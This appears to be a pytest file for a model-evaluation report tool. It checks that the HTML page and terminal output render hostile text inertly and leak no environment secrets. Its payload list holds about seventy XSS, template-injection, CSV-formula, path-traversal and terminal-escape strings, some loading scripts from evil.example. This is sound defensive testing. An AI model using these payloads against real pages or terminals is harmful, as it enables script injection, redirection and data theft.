"""What models, users and folders write stays text: in the page, in the plain text, in names."""

import os
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from rich.cells import cell_len

from ftguard import Probe
from ftguard.folders import RunFolder
from ftguard.measures.forgetting import forgetting
from ftguard.report.page.page import as_json
from ftguard.report.page.plain import render_text
from ftguard.report.recorded import read_run
from ftguard.report.shown.answers import clipped
from ftguard.report.shown.gathering import contents
from ftguard.report.shown.naming import named
from ftguard.report.writing import render_report, write_page, write_report

OpenPage = Callable[..., Page]
WriteRun = Callable[..., None]

OWN = "window.pwned=1"
HOSTILE = (
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"</SCRIPT ><SCRIPT>{OWN}</SCRIPT>",
    f"<!--<script>{OWN}",
    f"--><script>{OWN}</script><!--",
    f"]]><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</textarea><script>{OWN}</script>",
    f"</noscript><script>{OWN}</script>",
    f"</template><script>{OWN}</script>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f"<script src='data:text/javascript,{OWN}'></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={OWN}>",
    f'"><img src=x onerror="{OWN}">',
    f"'><img src=x onerror='{OWN}'>",
    f"` onmouseover={OWN} x=`",
    f'" autofocus onfocus="{OWN}" x="',
    f"' onclick='{OWN}' x='",
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{OWN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f"<body onload={OWN}>",
    f"<iframe src=javascript:{OWN}>",
    f"<iframe srcdoc='<script>top.{OWN}</script>'></iframe>",
    f"<object data=javascript:{OWN}>",
    f"<embed src=javascript:{OWN}>",
    f"<a href='javascript:{OWN}'>click me</a>",
    f"<a href='&#106;avascript:{OWN}'>click me</a>",
    f"[click me](javascript:{OWN})",
    f"javascript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
    "<a href=//evil.example target=_blank>x</a>",
    f"<form action=javascript:{OWN}><button>send</button></form>",
    "<form action=https://evil.example><input name=q><button>go</button>",
    f"<button formaction=javascript:{OWN}>x</button>",
    f"<details open ontoggle={OWN}>",
    f"<video><source onerror={OWN}></video>",
    f"<audio src=x onerror={OWN}>",
    f"<input autofocus onfocus={OWN}>",
    f"<select onfocus={OWN} autofocus></select>",
    f"<marquee onstart={OWN}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>all yours</div>",
    "expression(alert(1)) url(https://evil.example/x.png)",
    "}</style>body{background:url(//evil.example)}",
    "{{7*7}} {% for x in range(9) %}{{ x }}{% endfor %} {# hidden #}",
    "{{ self.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ config }} {%raw%} {% include '/etc/passwd' %}",
    "&lt;script&gt; &amp;#x3C; &#60;b&#62; &nbsp;",
    "[bold red]rich[/bold red] [link=https://evil.example]x[/link]",
    "abc \u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f",
    "zero\u200bwidth \ufeff soft\u00adhyphen \u2028 line \u2029 paragraph",
    "nul\x00 bell\x07 backspace\x08 escape\x1b[2J\x1b]0;title\x07 delete\x7f \x9b31m",
    "carriage\rreturn\r\nnewline\ttab\x0bvertical\x0cform",
    "👩‍💻 👨‍👩‍👧 ❤️ 日本語 مرحبا z̷̧a̴l̵g̶o̴",
    "\U000e0041\U000e0042 tags \ufff9 \ufffe \U0010ffff private \ue000",
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "../../etc/passwd %2e%2e%2f file:///etc/passwd",
    "x" * 1_000_000,
    "word " * 100_000,
    " ",
)
"""Kinds of text that have harmed pages, terminals or readers elsewhere."""


LONG = 20_000
STRANGE = (
    "img, iframe, object, embed, form[action], base, video, audio, marquee, body style, "
    "a[href^=javascript], svg script, input:not([name])"
)
"""What no page of ours has."""
STEERING = "\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, write_run: WriteRun) -> Path:
    """A run whose folder, ids, slices, prompts, references and answers are all hostile."""
    name = f"<img src=x onerror={OWN}>" + '"' + "\u202e"
    folder = RunFolder(tmp_path_factory.mktemp("attacked") / name)
    probes = [
        Probe(
            id=f"{role}/{number} {text[:2_000]}",
            prompt=text if number % 2 else [{"role": "user", "content": text}],
            reference="yes" if number % 3 else text or "yes",
            # Reading a megabyte for what it states takes a while, and is not what is tried here.
            scorer="normalized_match" if len(text) < LONG else "open",
            slices=(text[:500],),
            role=role,  # type: ignore[arg-type]
        )
        for number, text in enumerate(HOSTILE)
        for role in ["general" if number % 4 else "tail"]
    ]
    base = {p.id: (f"yes {text}", 0.9) for p, text in zip(probes, HOSTILE, strict=True)}
    now = {
        p.id: (f"no {text[::-1]} {text}"[:50_000], 0.5)
        for p, (text, _) in zip(probes, base.values(), strict=True)
    }
    write_run(folder, probes, base, {10: now}, measures=forgetting, notes=HOSTILE[:60])
    return folder.output_dir


def test_there_are_many_kinds() -> None:
    """At least sixty, each another."""
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("width", [1280, 390])
def test_no_text_of_others_does_anything(attacked: Path, open_page: OpenPage, width: int) -> None:
    """Nothing runs, is asked for, opened or laid over; all of it can be read as it was written."""
    page = open_page(write_report(attacked), viewport={"width": width, "height": 900})
    page.locator("#all-1").scroll_into_view_if_needed()
    expect(page.locator(".found")).to_have_text(f"{len(HOSTILE)} of {len(HOSTILE)}")
    page.get_by_role("button", name="Show").click()
    expect(page.locator(".row")).to_have_count(len(HOSTILE))
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    expect(page.locator(".row .sides")).to_have_count(len(HOSTILE))
    read = set(
        page.locator(".row .asked .text").evaluate_all("all => all.map((a) => a.textContent)")
    )
    assert {clipped(text, 4_000) for text in HOSTILE} <= read
    assert (
        page.locator(".text *:not(del):not(ins):not(.nothing), .facts dd *:not(code)").count() == 0
    )
    assert page.locator(STRANGE).count() == 0
    assert page.title().startswith("<img src=x onerror")
    root = "document.documentElement"
    assert page.evaluate(f"{root}.scrollWidth - {root}.clientWidth") == 0
    page.get_by_label("Search").fill("</script>")
    expect(page.locator(".found")).not_to_have_text(f"{len(HOSTILE)} of {len(HOSTILE)}")


def test_a_script_that_ran_would_be_noticed(watched: Callable[..., Any], tmp_path: Path) -> None:
    """The watch finds a script, a dialog, a request, and what a policy has stopped."""
    path = tmp_path / "bad.html"
    path.write_text(
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">"
        f"<script>{OWN}; alert('boo')</script><img src=http://evil.example/x.png>"
        "<iframe src=about:srcdoc></iframe><script src=http://evil.example/x.js></script>"
    )
    found = "\n".join(watched(path).found())
    for trace in ("a script of the texts ran", "boo", "asked for http://evil", "img-src"):
        assert trace in found


def test_the_page_has_no_escape_hatch(attacked: Path) -> None:
    """One policy, two scripts, and no `<` in the data; each hidden character is written out."""
    page = write_report(attacked).read_text(encoding="utf-8")
    assert len(re.findall("<script", page)) == 2
    assert len(re.findall("<meta http-equiv", page)) == 1
    start = page.index('<script type="application/json" id="data">') + 42
    data = page[start : page.index("</script>", start)]
    assert "<" not in data
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]", page
    )


def test_text_for_a_terminal_steers_none(attacked: Path) -> None:
    """No control character but line breaks, and no line wider than 80 columns."""
    shown = contents([read_run(attacked)], now=datetime(2026, 1, 1, tzinfo=UTC))
    text = render_text(shown)
    assert not re.search(f"[{STEERING}\t]", text)
    assert max(map(cell_len, text.splitlines())) <= 80


def test_what_is_no_unicode_can_be_written(
    tmp_path: Path, write_run: WriteRun, open_page: OpenPage
) -> None:
    """A folder named in broken bytes, and half a surrogate in a text, are shown as escapes."""
    assert clipped("a\ud800b", 10) == "a\\ud800b"
    assert named("a\udcffb") == "a\\udcffb"
    assert as_json(["</script>", "\u2028"]) == '["\\u003c/script\\u003e","\u2028"]'
    folder = RunFolder(Path(os.fsdecode(os.fsencode(tmp_path) + b"/run-\xff")))
    probe = Probe(id="general/1", prompt="q", reference="a", role="general")
    write_run(folder, [probe], {"general/1": ("a", 0.9)}, {}, measures=forgetting)
    path = tmp_path / "page.html"
    write_page(render_report([read_run(folder.output_dir)]), path)
    assert open_page(path).title() == "run-\\udcff: can't tell · ftguard"


def test_no_home_and_no_key_is_in_the_page(
    three_in_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The home folder is `~`, also in notes and commands; nothing of the environment is there."""
    monkeypatch.setenv("HF_TOKEN", "hf_canary")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary")
    monkeypatch.setenv("HOME", str(three_in_home.parent))
    run = read_run(three_in_home)
    page = render_report([run])
    text = render_text(contents([run], now=datetime(2026, 1, 1, tzinfo=UTC)))
    for found in (page, text):
        assert "canary" not in found
        assert str(three_in_home.parent) not in found
        assert "ftguard report ~/run" in found
        assert "read from ~/data.jsonl" in found


@pytest.fixture
def three_in_home(tmp_path: Path, write_run: WriteRun) -> Path:
    """A run in a home folder, which its notes name."""
    folder = RunFolder(tmp_path / "run")
    probes = [Probe(id=f"general/{n}", prompt="q", reference="a", role="general") for n in range(4)]
    said = {probe.id: ("a", 0.9) for probe in probes}
    notes = [f"read from {tmp_path}/data.jsonl"]
    write_run(folder, probes, said, {1: said}, measures=forgetting, notes=notes)
    return folder.output_dir
